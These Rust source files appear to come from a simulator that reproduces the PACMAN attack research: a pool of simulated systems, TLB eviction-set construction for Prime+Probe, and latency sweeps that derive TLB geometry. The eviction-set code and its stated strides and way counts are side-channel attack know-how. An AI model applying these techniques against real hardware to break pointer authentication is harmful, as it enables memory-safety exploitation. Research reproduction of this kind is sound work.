        fresh_frames: FRESH_FRAMES.load(Ordering::Relaxed),
        seeded_boots: SEEDED_BOOTS.load(Ordering::Relaxed),
    }
}

/// Turns snapshot donation on or off process-wide. While armed, every
/// system parked back into a thread-local pool also serializes itself
/// into the donation store (until [`DONATION_CAP`] blobs are held), so
/// a checkpoint writer on *another* thread can persist warm machines it
/// could never reach through the thread-local pools.
pub fn arm_donation(on: bool) {
    DONATE.store(on, Ordering::Relaxed);
    if !on {
        DONATIONS.lock().expect("donation store").clear();
    }
}

/// Drains the donated snapshot blobs collected since the last call.
/// The daemon's checkpoint writer embeds them in the snapshot file so
/// a restarted daemon resumes with warm machines.
#[must_use]
pub fn take_donations() -> Vec<Vec<u8>> {
    std::mem::take(&mut *DONATIONS.lock().expect("donation store"))
}

/// Installs checkpoint seed blobs. The next [`lease`] misses (on any
/// thread) restore a seed via [`System::restore`] and reboot it into
/// the requested config instead of booting from nothing — recycling the
/// checkpointed machine's frames. Blobs that fail to restore (e.g. a
/// snapshot from an older build) are silently discarded: seeding is a
/// warm-up hint, never load-bearing.
pub fn seed(blobs: Vec<Vec<u8>>) {
    let mut seeds = SEEDS.lock().expect("seed store");
    seeds.extend(blobs);
    let excess = seeds.len().saturating_sub(DONATION_CAP);
    if excess > 0 {
        seeds.drain(..excess);
    }
}

/// Pops one seed blob and restores it, skipping any that fail.
fn take_seed_system() -> Option<System> {
    loop {
        let blob = SEEDS.lock().expect("seed store").pop()?;
        if let Ok(sys) = System::restore(&blob) {
            return Some(sys);
        }
    }
}

/// Empties the calling thread's pool. Test/bench hook for starting a
/// measurement from a known-cold state.
#[doc(hidden)]
pub fn clear_thread_pool() {
    POOL.with(|p| p.borrow_mut().clear());
}

/// Leases a booted [`System`] for `config`: a parked system with the
/// same pool key is rebooted into `config` (allocator-free), otherwise
/// one is booted fresh. Dropping the returned guard parks the system
/// back in the calling thread's pool.
pub fn lease(config: SystemConfig) -> PooledSystem {
    let key = pool_key(&config);
    let parked = POOL.with(|p| {
        let mut p = p.borrow_mut();
        p.iter().position(|(k, _)| *k == key).map(|i| p.swap_remove(i).1)
    });
    let sys = match parked {
        Some(mut sys) => {
            REBOOTS.fetch_add(1, Ordering::Relaxed);
            sys.reboot_into(config);
            sys
        }
        None => match take_seed_system() {
            Some(mut sys) => {
                SEEDED_BOOTS.fetch_add(1, Ordering::Relaxed);
                sys.reboot_into(config);
                sys
            }
            None => {
                FRESH_BOOTS.fetch_add(1, Ordering::Relaxed);
                System::boot(config)
            }
        },
    };
    PooledSystem { slot: Some((key, sys)) }
}

/// A leased [`System`]: dereferences to the system, returns it to the
/// lease's thread-local pool on drop (evicting the oldest entry when
/// the pool is full).
#[derive(Debug)]
pub struct PooledSystem {
    slot: Option<(SystemConfig, System)>,
}

impl Deref for PooledSystem {
    type Target = System;

    fn deref(&self) -> &System {
        &self.slot.as_ref().expect("leased system present until drop").1
    }
}

impl DerefMut for PooledSystem {
    fn deref_mut(&mut self) -> &mut System {
        &mut self.slot.as_mut().expect("leased system present until drop").1
    }
}

impl Drop for PooledSystem {
    fn drop(&mut self) {
        let Some((key, sys)) = self.slot.take() else { return };
        // `fresh_alloc_count` is per boot generation: a warm reboot that
        // recycled every frame contributes zero here.
        FRESH_FRAMES.fetch_add(sys.machine.mem.phys.fresh_alloc_count(), Ordering::Relaxed);
        if DONATE.load(Ordering::Relaxed) {
            let mut donations = DONATIONS.lock().expect("donation store");
            if donations.len() < DONATION_CAP {
                donations.push(sys.snapshot());
            }
        }
        POOL.with(|p| {
            let mut p = p.borrow_mut();
            if p.len() >= POOL_CAP {
                p.remove(0);
            }
            p.push((key, sys));
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(kernel_seed: u64, machine_seed: u64) -> SystemConfig {
        let mut cfg = SystemConfig { kernel_seed, ..SystemConfig::default() };
        cfg.machine.seed = machine_seed;
        cfg
    }

    /// The donation/seed stores and counters are process-global, so the
    /// pool tests must not interleave: a concurrently-seeded lease
    /// would turn another test's expected fresh boot into a seeded one.
    fn serial() -> std::sync::MutexGuard<'static, ()> {
        static LOCK: Mutex<()> = Mutex::new(());
        LOCK.lock().unwrap_or_else(|e| e.into_inner())
    }

    #[test]
    fn a_pooled_reboot_recycles_every_frame() {
        let _serial = serial();
        clear_thread_pool();
        let first = lease(cfg(7, 1));
        assert!(first.machine.mem.phys.fresh_alloc_count() > 0, "cold boot allocates");
        drop(first);
        // Same key, different per-shard seed: must come from the pool.
        let second = lease(cfg(7, 2));
        assert_eq!(
            second.machine.mem.phys.fresh_alloc_count(),
            0,
            "a warm reboot must not allocate a single fresh frame"
        );
    }

    #[test]
    fn a_rebooted_lease_matches_a_fresh_boot() {
        let _serial = serial();
        clear_thread_pool();
        drop(lease(cfg(11, 1)));
        let mut pooled = lease(cfg(11, 9));
        let mut fresh = System::boot(cfg(11, 9));
        let set = fresh.pick_quiet_dtlb_set();
        assert_eq!(pooled.pick_quiet_dtlb_set(), set);
        let (pt, ft) = (pooled.alloc_target(set), fresh.alloc_target(set));
        assert_eq!(pt, ft, "target layout is boot-path independent");
        assert_eq!(pooled.true_pac(pt), fresh.true_pac(ft));
        assert_eq!(pooled.machine.cycles, fresh.machine.cycles, "cycle-identical");
    }

    #[test]
    fn distinct_keys_never_share_a_parked_system() {
        let _serial = serial();
        clear_thread_pool();
        drop(lease(cfg(3, 1)));
        // Different kernel seed => different key => fresh boot.
        let other = lease(cfg(4, 1));
        assert!(other.machine.mem.phys.fresh_alloc_count() > 0);
        drop(other);
        // The first key's system is still parked.
        let back = lease(cfg(3, 2));
        assert_eq!(back.machine.mem.phys.fresh_alloc_count(), 0);
    }

    #[test]
    fn the_cap_evicts_the_oldest_entry() {
        let _serial = serial();
        clear_thread_pool();
        for seed in 0..=POOL_CAP as u64 {
            drop(lease(cfg(100 + seed, 1)));
        }
        // Key 100 was pushed first and evicted when key 103 returned.
        let evicted = lease(cfg(100, 2));
        assert!(evicted.machine.mem.phys.fresh_alloc_count() > 0, "oldest key was evicted");
        drop(evicted);
        let kept = lease(cfg(102, 2));
        assert_eq!(kept.machine.mem.phys.fresh_alloc_count(), 0, "younger keys survive");
    }

    #[test]
    fn armed_pools_donate_snapshots_that_seed_future_leases() {
        let _serial = serial();
        clear_thread_pool();
        arm_donation(true);
        drop(lease(cfg(31, 1)));
        let donations = take_donations();
        arm_donation(false);
        assert!(!donations.is_empty(), "an armed park donates a snapshot");

        // A different key (pool miss) served from the seed store must
        // behave exactly like a fresh boot, minus the host allocation.
        clear_thread_pool();
        let before = stats();
        seed(donations);
        let mut seeded = lease(cfg(32, 5));
        let mut fresh = System::boot(cfg(32, 5));
        let set = fresh.pick_quiet_dtlb_set();
        let (st, ft) = (seeded.alloc_target(set), fresh.alloc_target(set));
        assert_eq!(st, ft);
        assert_eq!(seeded.true_pac(st), fresh.true_pac(ft));
        assert_eq!(seeded.machine.cycles, fresh.machine.cycles, "seeded boot is cycle-identical");
        assert_eq!(stats().seeded_boots, before.seeded_boots + 1);
    }

    #[test]
    fn garbage_seeds_are_discarded_and_fall_back_to_fresh_boots() {
        let _serial = serial();
        clear_thread_pool();
        seed(vec![vec![0xFF; 64], Vec::new()]);
        let sys = lease(cfg(41, 1));
        assert!(sys.machine.mem.phys.fresh_alloc_count() > 0, "fell back to a fresh boot");
    }

    #[test]
    fn counters_only_grow() {
        let _serial = serial();
        let before = stats();
        clear_thread_pool();
        drop(lease(cfg(21, 1)));
        drop(lease(cfg(21, 2)));
        let after = stats();
        assert!(after.fresh_boots > before.fresh_boots);
        assert!(after.reboots > before.reboots);
    }
}
