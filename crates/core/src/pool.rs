//! Per-worker [`System`] pool behind the persistent executor.
//!
//! Booting a [`System`] is the allocation hot spot of every campaign:
//! fresh physical frames, rebuilt page tables, a cold block-cache
//! arena. The executor keeps its workers alive for the process
//! lifetime, so a worker that just finished a shard can hand its booted
//! system to the next shard instead of tearing it down —
//! [`System::reboot_into`] recycles the frame pool and is bit-identical
//! to a fresh boot (pinned by a `system` test), which makes pooling
//! invisible to results and allocator-free in steady state.
//!
//! The pool is **thread-local** (one per executor worker, no locks) and
//! keyed by the shard configuration with the per-shard fields
//! normalised away: `machine.seed` changes on every shard and
//! `machine.latency.fault_spike` on every injected-fault attempt, and
//! both are plain config values that `reboot_into` re-applies, so
//! systems that differ only there are interchangeable. Everything else
//! (kernel seed, timing source, latency model, bug switches) must match
//! exactly or the lease falls back to a fresh boot.
//!
//! Global counters ([`stats`]) expose fresh boots, pooled reboots and
//! freshly allocated frames; the `perf_campaign` bench reads them to
//! back the allocator-free steady-state claim.

use std::cell::RefCell;
use std::ops::{Deref, DerefMut};
use std::sync::atomic::{AtomicU64, Ordering};

use crate::system::{System, SystemConfig};

/// Parked systems kept per thread. Workers juggle very few distinct
/// keys at once — the campaign config plus perhaps a sweep stride — so
/// a small cap bounds memory without hurting the hit rate.
const POOL_CAP: usize = 3;

static FRESH_BOOTS: AtomicU64 = AtomicU64::new(0);
static REBOOTS: AtomicU64 = AtomicU64::new(0);
static FRESH_FRAMES: AtomicU64 = AtomicU64::new(0);

thread_local! {
    static POOL: RefCell<Vec<(SystemConfig, System)>> = const { RefCell::new(Vec::new()) };
}

/// The pool key: the config with the per-shard fields zeroed. Two
/// configs with the same key describe interchangeable systems (the
/// differing fields are re-applied by the reboot).
fn pool_key(cfg: &SystemConfig) -> SystemConfig {
    let mut key = cfg.clone();
    key.machine.seed = 0;
    key.machine.latency.fault_spike = 0;
    key
}

/// Process-wide pool counters (summed over every thread-local pool).
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub struct PoolStats {
    /// Systems booted from nothing (pool miss).
    pub fresh_boots: u64,
    /// Systems recycled through [`System::reboot_into`] (pool hit).
    pub reboots: u64,
    /// Physical frames allocated fresh instead of recycled, summed at
    /// lease return. Zero deltas here are the allocator-free claim.
    pub fresh_frames: u64,
}

/// Snapshot of the global counters. Benches measure deltas across a
/// warmed steady-state window rather than absolute values.
#[must_use]
pub fn stats() -> PoolStats {
    PoolStats {
        fresh_boots: FRESH_BOOTS.load(Ordering::Relaxed),
        reboots: REBOOTS.load(Ordering::Relaxed),
        fresh_frames: FRESH_FRAMES.load(Ordering::Relaxed),
    }
}

/// Empties the calling thread's pool. Test/bench hook for starting a
/// measurement from a known-cold state.
#[doc(hidden)]
pub fn clear_thread_pool() {
    POOL.with(|p| p.borrow_mut().clear());
}

/// Leases a booted [`System`] for `config`: a parked system with the
/// same pool key is rebooted into `config` (allocator-free), otherwise
/// one is booted fresh. Dropping the returned guard parks the system
/// back in the calling thread's pool.
pub fn lease(config: SystemConfig) -> PooledSystem {
    let key = pool_key(&config);
    let parked = POOL.with(|p| {
        let mut p = p.borrow_mut();
        p.iter().position(|(k, _)| *k == key).map(|i| p.swap_remove(i).1)
    });
    let sys = match parked {
        Some(mut sys) => {
            REBOOTS.fetch_add(1, Ordering::Relaxed);
            sys.reboot_into(config);
            sys
        }
        None => {
            FRESH_BOOTS.fetch_add(1, Ordering::Relaxed);
            System::boot(config)
        }
    };
    PooledSystem { slot: Some((key, sys)) }
}

/// A leased [`System`]: dereferences to the system, returns it to the
/// lease's thread-local pool on drop (evicting the oldest entry when
/// the pool is full).
#[derive(Debug)]
pub struct PooledSystem {
    slot: Option<(SystemConfig, System)>,
}

impl Deref for PooledSystem {
    type Target = System;

    fn deref(&self) -> &System {
        &self.slot.as_ref().expect("leased system present until drop").1
    }
}

impl DerefMut for PooledSystem {
    fn deref_mut(&mut self) -> &mut System {
        &mut self.slot.as_mut().expect("leased system present until drop").1
    }
}

impl Drop for PooledSystem {
    fn drop(&mut self) {
        let Some((key, sys)) = self.slot.take() else { return };
        // `fresh_alloc_count` is per boot generation: a warm reboot that
        // recycled every frame contributes zero here.
        FRESH_FRAMES.fetch_add(sys.machine.mem.phys.fresh_alloc_count(), Ordering::Relaxed);
        POOL.with(|p| {
            let mut p = p.borrow_mut();
            if p.len() >= POOL_CAP {
                p.remove(0);
            }
            p.push((key, sys));
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg(kernel_seed: u64, machine_seed: u64) -> SystemConfig {
        let mut cfg = SystemConfig { kernel_seed, ..SystemConfig::default() };
        cfg.machine.seed = machine_seed;
        cfg
    }

    #[test]
    fn a_pooled_reboot_recycles_every_frame() {
        clear_thread_pool();
        let first = lease(cfg(7, 1));
        assert!(first.machine.mem.phys.fresh_alloc_count() > 0, "cold boot allocates");
        drop(first);
        // Same key, different per-shard seed: must come from the pool.
        let second = lease(cfg(7, 2));
        assert_eq!(
            second.machine.mem.phys.fresh_alloc_count(),
            0,
            "a warm reboot must not allocate a single fresh frame"
        );
    }

    #[test]
    fn a_rebooted_lease_matches_a_fresh_boot() {
        clear_thread_pool();
        drop(lease(cfg(11, 1)));
        let mut pooled = lease(cfg(11, 9));
        let mut fresh = System::boot(cfg(11, 9));
        let set = fresh.pick_quiet_dtlb_set();
        assert_eq!(pooled.pick_quiet_dtlb_set(), set);
        let (pt, ft) = (pooled.alloc_target(set), fresh.alloc_target(set));
        assert_eq!(pt, ft, "target layout is boot-path independent");
        assert_eq!(pooled.true_pac(pt), fresh.true_pac(ft));
        assert_eq!(pooled.machine.cycles, fresh.machine.cycles, "cycle-identical");
    }

    #[test]
    fn distinct_keys_never_share_a_parked_system() {
        clear_thread_pool();
        drop(lease(cfg(3, 1)));
        // Different kernel seed => different key => fresh boot.
        let other = lease(cfg(4, 1));
        assert!(other.machine.mem.phys.fresh_alloc_count() > 0);
        drop(other);
        // The first key's system is still parked.
        let back = lease(cfg(3, 2));
        assert_eq!(back.machine.mem.phys.fresh_alloc_count(), 0);
    }

    #[test]
    fn the_cap_evicts_the_oldest_entry() {
        clear_thread_pool();
        for seed in 0..=POOL_CAP as u64 {
            drop(lease(cfg(100 + seed, 1)));
        }
        // Key 100 was pushed first and evicted when key 103 returned.
        let evicted = lease(cfg(100, 2));
        assert!(evicted.machine.mem.phys.fresh_alloc_count() > 0, "oldest key was evicted");
        drop(evicted);
        let kept = lease(cfg(102, 2));
        assert_eq!(kept.machine.mem.phys.fresh_alloc_count(), 0, "younger keys survive");
    }

    #[test]
    fn counters_only_grow() {
        let before = stats();
        clear_thread_pool();
        drop(lease(cfg(21, 1)));
        drop(lease(cfg(21, 2)));
        let after = stats();
        assert!(after.fresh_boots > before.fresh_boots);
        assert!(after.reboots > before.reboots);
    }
}
