//! TLB eviction-set construction (paper §7 findings 1–3).
//!
//! - **Finding 1**: 12+ addresses with a stride of 256 × 16 KB evict an
//!   L1 dTLB entry.
//! - **Finding 2**: 23+ addresses with a stride of 2048 × 16 KB evict an
//!   L2 TLB entry.
//! - **Finding 3**: 4+ branch targets with a stride of 32 × 16 KB evict
//!   an L1 iTLB entry.
//!
//! The Prime+Probe eviction set additionally staggers each address by
//! `i * 128 B` within its page so that the probed lines land in distinct
//! L1 data-cache sets — otherwise cache misses would masquerade as TLB
//! misses (the paper's §7.2 address formula).

use pacman_isa::ptr::{VirtualAddress, PAGE_SIZE};

use crate::system::System;

/// dTLB geometry (Figure 6).
pub const DTLB_WAYS: usize = 12;
/// dTLB set count.
pub const DTLB_SETS: u64 = 256;
/// L2 TLB geometry (Figure 6).
pub const L2_WAYS: usize = 23;
/// L2 TLB set count.
pub const L2_SETS: u64 = 2048;
/// iTLB geometry (Figure 6).
pub const ITLB_WAYS: usize = 4;
/// iTLB set count.
pub const ITLB_SETS: u64 = 32;

/// An eviction set: attacker-owned user addresses that collide with a
/// chosen TLB set.
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct EvictionSet {
    addrs: Vec<u64>,
    set: u64,
}

impl EvictionSet {
    /// Builds (and maps) a Prime+Probe eviction set for the L1 dTLB set
    /// of `target_va`: [`DTLB_WAYS`] addresses with stride 256 × 16 KB,
    /// staggered by 128 B to avoid L1D conflicts (finding 1).
    pub fn dtlb_for_target(sys: &mut System, target_va: u64) -> Self {
        let set = VirtualAddress::new(target_va).vpn() % DTLB_SETS;
        let base = sys.alloc_user_region(256 * DTLB_WAYS as u64 + DTLB_SETS);
        let mut addrs = Vec::with_capacity(DTLB_WAYS);
        for i in 0..DTLB_WAYS as u64 {
            let va = base + (set + 256 * i) * PAGE_SIZE + 128 * i;
            sys.ensure_user_page(va);
            addrs.push(va);
        }
        Self { addrs, set }
    }

    /// Builds the §8.1 step-2 *reset* set: [`L2_WAYS`] addresses sharing
    /// the target's **L2 TLB** set (stride 2048 × 16 KB, finding 2).
    /// Accessing all of them flushes the target's translation out of the
    /// entire shared hierarchy. Distinct from the Prime+Probe addresses.
    pub fn l2_reset_for_target(sys: &mut System, target_va: u64) -> Self {
        let vpn = VirtualAddress::new(target_va).vpn();
        let l2_set = vpn % L2_SETS;
        let base = sys.alloc_user_region(2048 * (L2_WAYS as u64 + 1) + L2_SETS);
        let mut addrs = Vec::with_capacity(L2_WAYS);
        for i in 1..=L2_WAYS as u64 {
            let va = base + (l2_set + 2048 * i) * PAGE_SIZE + 128 * (i % 32);
            sys.ensure_user_page(va);
            addrs.push(va);
        }
        Self { addrs, set: l2_set }
    }

    /// The TLB set index this eviction set collides with.
    pub fn set(&self) -> u64 {
        self.set
    }

    /// The member addresses, in access order.
    pub fn addrs(&self) -> &[u64] {
        &self.addrs
    }

    /// Number of members.
    pub fn len(&self) -> usize {
        self.addrs.len()
    }

    /// Whether the set is empty (never true for the constructors here).
    pub fn is_empty(&self) -> bool {
        self.addrs.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::system::SystemConfig;

    #[test]
    fn dtlb_set_members_share_the_targets_set() {
        let mut sys = System::boot(SystemConfig::default());
        let target = sys.alloc_target(45);
        let ev = EvictionSet::dtlb_for_target(&mut sys, target);
        assert_eq!(ev.len(), DTLB_WAYS);
        assert_eq!(ev.set(), 45);
        for &a in ev.addrs() {
            assert_eq!(VirtualAddress::new(a).vpn() % DTLB_SETS, 45);
        }
    }

    #[test]
    fn dtlb_set_members_avoid_l1d_conflicts() {
        // The 128-byte stagger must spread the members over distinct L1D
        // sets (64 B lines, 256 sets).
        let mut sys = System::boot(SystemConfig::default());
        let target = sys.alloc_target(10);
        let ev = EvictionSet::dtlb_for_target(&mut sys, target);
        let mut l1d_sets: Vec<u64> = ev.addrs().iter().map(|a| (a / 64) % 256).collect();
        l1d_sets.sort_unstable();
        l1d_sets.dedup();
        assert_eq!(l1d_sets.len(), DTLB_WAYS, "L1D sets must be pairwise distinct");
    }

    #[test]
    fn dtlb_eviction_actually_evicts() {
        let mut sys = System::boot(SystemConfig::default());
        let target = sys.alloc_target(77);
        // Plant a *user* page in the same set and verify the eviction set
        // pushes it out.
        let victim = sys.alloc_user_region(DTLB_SETS) + 77 * PAGE_SIZE;
        sys.ensure_user_page(victim);
        sys.machine.user_load(victim).unwrap();
        let vpn = VirtualAddress::new(victim).vpn();
        assert!(sys.machine.mem.tlbs.dtlb().contains(vpn));
        let ev = EvictionSet::dtlb_for_target(&mut sys, target);
        for &a in ev.addrs() {
            sys.machine.user_load(a).unwrap();
        }
        assert!(
            !sys.machine.mem.tlbs.dtlb().contains(vpn),
            "12 same-set fills must evict the planted entry"
        );
    }

    #[test]
    fn l2_reset_evicts_from_the_whole_hierarchy() {
        let mut sys = System::boot(SystemConfig::default());
        let victim = sys.alloc_user_region(4096) + 3 * PAGE_SIZE;
        sys.ensure_user_page(victim);
        sys.machine.user_load(victim).unwrap();
        let vpn = VirtualAddress::new(victim).vpn();
        assert!(sys.machine.mem.tlbs.l2().contains(vpn));

        let reset = EvictionSet::l2_reset_for_target(&mut sys, victim);
        assert_eq!(reset.len(), L2_WAYS);
        for &a in reset.addrs() {
            assert_eq!(VirtualAddress::new(a).vpn() % L2_SETS, vpn % L2_SETS);
            sys.machine.user_load(a).unwrap();
        }
        assert!(!sys.machine.mem.tlbs.l2().contains(vpn), "L2 TLB entry must be gone");
        assert!(!sys.machine.mem.tlbs.dtlb().contains(vpn), "dTLB entry must be gone");
    }

    #[test]
    fn reset_and_prime_sets_are_disjoint() {
        let mut sys = System::boot(SystemConfig::default());
        let target = sys.alloc_target(5);
        let prime = EvictionSet::dtlb_for_target(&mut sys, target);
        let reset = EvictionSet::l2_reset_for_target(&mut sys, target);
        for a in prime.addrs() {
            assert!(!reset.addrs().contains(a));
        }
    }
}
