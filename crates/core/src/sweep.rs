//! The §7 reverse-engineering experiments (Figure 5(a)/(b)/(c)) and the
//! Figure 6 parameter derivation.
//!
//! These run the way the paper ran them under PacmanOS (§6.2): with full
//! control of the machine (state flushes between trials) and the Apple
//! performance counter (`PMC0`) as the clock. Each experiment reports the
//! median measured reload latency of a target address after `N` potential
//! eviction accesses at a given stride.

use pacman_isa::ptr::{VirtualAddress, PAGE_SIZE};
use pacman_uarch::{Machine, MachineConfig, Perms, TimingSource, Trap};

/// One measured point of a sweep.
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub struct SweepPoint {
    /// Number of potentially conflicting accesses performed (the paper's
    /// x-axis).
    pub n: usize,
    /// Median measured reload latency (cycles, PMC0).
    pub median: u64,
}

/// One stride's latency-vs-N series.
#[derive(Clone, Eq, PartialEq, Debug)]
pub struct SweepSeries {
    /// Human-readable stride label (e.g. `"256 x 16KB"`).
    pub label: String,
    /// Stride in bytes.
    pub stride: u64,
    /// The measured points, `n` ascending.
    pub points: Vec<SweepPoint>,
}

impl SweepSeries {
    /// The median latency at a given `n`, if measured.
    pub fn at(&self, n: usize) -> Option<u64> {
        self.points.iter().find(|p| p.n == n).map(|p| p.median)
    }

    /// The smallest `n` whose median is at least `threshold` (knee
    /// detection for rising series).
    pub fn knee_above(&self, threshold: u64) -> Option<usize> {
        self.points.iter().find(|p| p.median >= threshold).map(|p| p.n)
    }

    /// The smallest `n` whose median is at most `threshold` (knee
    /// detection for falling series, Figure 5(c)).
    pub fn knee_below(&self, threshold: u64) -> Option<usize> {
        self.points.iter().find(|p| p.median <= threshold).map(|p| p.n)
    }
}

/// A bare-metal-style experiment machine: PMC0 unlocked, no OS noise, no
/// kernel — the PacmanOS environment of §6.2.
pub fn experiment_machine() -> Machine {
    let cfg = MachineConfig { os_noise: 0.0, ..MachineConfig::default() };
    let mut m = Machine::new(cfg);
    m.timers.pmc0_el0_enabled = true;
    m.set_timing_source(TimingSource::Pmc0);
    m
}

/// The VA region the sweeps use (well inside the user half).
const SWEEP_BASE: u64 = 0x0000_1000_0000_0000;
/// Maximum N the paper plots.
pub const MAX_N: usize = 30;
/// Samples per (stride, N) point. The paper used 1000; the simulator is
/// noise-calibrated, so fewer suffice.
pub const SAMPLES: usize = 21;

fn median(mut v: Vec<u64>) -> u64 {
    v.sort_unstable();
    v[v.len() / 2]
}

fn flush_microarch(m: &mut Machine) {
    m.mem.tlbs.flush();
    m.mem.l1i.flush();
    m.mem.l1d.flush();
    m.mem.l2c.flush();
}

/// Maps `x` and all sweep addresses. Each touched page gets its own
/// physical frame: the caches are physically indexed, so aliasing frames
/// would erase the cache-conflict behaviour Figure 5(b) measures. Only
/// the ~2·N touched pages are mapped, never the full stride span.
fn map_sweep_addresses(m: &mut Machine, x: u64, addrs: &[u64]) {
    let map_page = |m: &mut Machine, va: u64| {
        let page = va & !(PAGE_SIZE - 1);
        if m.mem.tables.translate(&m.mem.phys, VirtualAddress::new(page)).is_none() {
            let frame = m.alloc_frame();
            m.map_alias(page, frame, Perms::user_rwx());
        }
    };
    map_page(m, x);
    for &a in addrs {
        map_page(m, a);
        map_page(m, a + 8); // loads never straddle, but keep the next page warm-safe
    }
}

/// Figure 5(a): data-load sweep with the cache-conflict-avoiding formula
/// `addr[i] = x + i*stride + i*128`.
///
/// # Errors
///
/// Propagates traps from the experiment's own loads (mapping bugs only).
pub fn data_tlb_sweep(m: &mut Machine, stride_pages: &[u64]) -> Result<Vec<SweepSeries>, Trap> {
    stride_pages.iter().enumerate().map(|(si, &sp)| data_tlb_series(m, si, sp)).collect()
}

/// One stride's Figure 5(a) series. `si` is the stride's position in the
/// experiment (it selects a disjoint VA region), passed explicitly so a
/// parallel driver can reproduce the exact serial addresses with one
/// fresh machine per stride.
///
/// # Errors
///
/// Propagates traps from the experiment's own loads (mapping bugs only).
pub fn data_tlb_series(m: &mut Machine, si: usize, stride_pages: u64) -> Result<SweepSeries, Trap> {
    let stride = stride_pages * PAGE_SIZE;
    let x = SWEEP_BASE + (si as u64) * 0x100_0000_0000;
    let addrs: Vec<u64> = (1..=MAX_N as u64).map(|i| x + i * stride + i * 128).collect();
    map_sweep_addresses(m, x, &addrs);
    let mut points = Vec::new();
    for n in 1..=MAX_N {
        let mut samples = Vec::with_capacity(SAMPLES);
        for _ in 0..SAMPLES {
            flush_microarch(m);
            m.user_load(x)?;
            for &a in &addrs[..n] {
                m.user_load(a)?;
            }
            samples.push(m.timed_user_load(x)?);
        }
        points.push(SweepPoint { n, median: median(samples) });
    }
    Ok(SweepSeries { label: format!("{stride_pages} x 16KB"), stride, points })
}

/// Figure 5(b): cache/TLB interaction sweep with the raw formula
/// `addr[i] = x + i*stride` (stride in bytes, multiples of 128 B).
///
/// # Errors
///
/// Propagates traps from the experiment's own loads.
pub fn cache_tlb_sweep(m: &mut Machine, strides: &[u64]) -> Result<Vec<SweepSeries>, Trap> {
    strides.iter().enumerate().map(|(si, &stride)| cache_tlb_series(m, si, stride)).collect()
}

/// One stride's Figure 5(b) series (`si` as in [`data_tlb_series`]).
///
/// # Errors
///
/// Propagates traps from the experiment's own loads.
pub fn cache_tlb_series(m: &mut Machine, si: usize, stride: u64) -> Result<SweepSeries, Trap> {
    let x = SWEEP_BASE + 0x2000_0000_0000 + (si as u64) * 0x100_0000_0000;
    let addrs: Vec<u64> = (1..=MAX_N as u64).map(|i| x + i * stride).collect();
    map_sweep_addresses(m, x, &addrs);
    let mut points = Vec::new();
    for n in 1..=MAX_N {
        let mut samples = Vec::with_capacity(SAMPLES);
        for _ in 0..SAMPLES {
            flush_microarch(m);
            m.user_load(x)?;
            for &a in &addrs[..n] {
                m.user_load(a)?;
            }
            samples.push(m.timed_user_load(x)?);
        }
        points.push(SweepPoint { n, median: median(samples) });
    }
    let label = if stride.is_multiple_of(PAGE_SIZE) {
        format!("{} x 16KB", stride / PAGE_SIZE)
    } else {
        format!("{} x 128B", stride / 128)
    };
    Ok(SweepSeries { label, stride, points })
}

/// Figure 5(c): instruction-fetch sweep. The target `x` is *branched to*
/// (step 2), then `N` branch targets at the stride are fetched (step 3),
/// then `x` is reloaded **as data** (step 4) — measuring data latency is
/// more reliable than fetch latency (§7.3).
///
/// # Errors
///
/// Propagates traps from the experiment's own accesses.
pub fn itlb_sweep(m: &mut Machine, stride_pages: &[u64]) -> Result<Vec<SweepSeries>, Trap> {
    stride_pages.iter().enumerate().map(|(si, &sp)| itlb_series(m, si, sp)).collect()
}

/// One stride's Figure 5(c) series (`si` as in [`data_tlb_series`]).
///
/// # Errors
///
/// Propagates traps from the experiment's own accesses.
pub fn itlb_series(m: &mut Machine, si: usize, stride_pages: u64) -> Result<SweepSeries, Trap> {
    let stride = stride_pages * PAGE_SIZE;
    let x = SWEEP_BASE + 0x4000_0000_0000 + (si as u64) * 0x100_0000_0000;
    let addrs: Vec<u64> = (1..=MAX_N as u64).map(|i| x + i * stride + i * 128).collect();
    map_sweep_addresses(m, x, &addrs);
    let mut points = Vec::new();
    for n in 1..=MAX_N {
        let mut samples = Vec::with_capacity(SAMPLES);
        for _ in 0..SAMPLES {
            flush_microarch(m);
            m.user_fetch(x)?; // step 2: fetch x as an instruction
            for &a in &addrs[..n] {
                m.user_fetch(a)?; // step 3: instruction eviction set
            }
            samples.push(m.timed_user_load(x)?); // step 4: reload as data
        }
        points.push(SweepPoint { n, median: median(samples) });
    }
    Ok(SweepSeries { label: format!("{stride_pages} x 16KB"), stride, points })
}

/// The Figure 6 / findings 1–3 summary, derived from the sweeps.
#[derive(Copy, Clone, Eq, PartialEq, Debug)]
pub struct TlbHierarchyFindings {
    /// Finding 1: dTLB eviction needs this many addresses at stride
    /// 256 × 16 KB (expected 12 = dTLB ways).
    pub dtlb_ways: usize,
    /// Finding 2: L2 TLB eviction needs this many addresses at stride
    /// 2048 × 16 KB (expected 23 = L2 ways).
    pub l2_ways: usize,
    /// Finding 3: iTLB eviction needs this many branches at stride
    /// 32 × 16 KB (expected 4 = iTLB ways).
    pub itlb_ways: usize,
    /// §7.3: evicted iTLB entries become dTLB-visible (the backing-store
    /// behaviour, detected by the latency *drop* in Figure 5(c)).
    pub itlb_victims_visible_to_loads: bool,
}

/// Derives the Figure 6 parameters by running the minimal sweeps.
///
/// # Errors
///
/// Propagates traps from the sweeps.
pub fn derive_hierarchy(m: &mut Machine) -> Result<TlbHierarchyFindings, Trap> {
    // Thresholds between the 60/80/95/115 plateaus.
    let miss_threshold = 90; // above = dTLB miss at least
    let l2_threshold = 110; // above = L2 TLB miss

    let data = data_tlb_sweep(m, &[256, 2048])?;
    let dtlb_ways = data[0].knee_above(miss_threshold).unwrap_or(0);
    let l2_ways = data[1].knee_above(l2_threshold).unwrap_or(0);

    let instr = itlb_sweep(m, &[32])?;
    // Before the knee, the entry hides in the iTLB (slow reloads); at the
    // knee it migrates into the dTLB (fast reloads).
    let itlb_ways = instr[0].knee_below(miss_threshold).unwrap_or(0);
    let before = instr[0].at(1).unwrap_or(0);
    let after = instr[0].at(itlb_ways.max(1)).unwrap_or(u64::MAX);
    let itlb_victims_visible_to_loads = itlb_ways > 0 && after < before;

    Ok(TlbHierarchyFindings { dtlb_ways, l2_ways, itlb_ways, itlb_victims_visible_to_loads })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fig5a_plateaus_and_knees() {
        let mut m = experiment_machine();
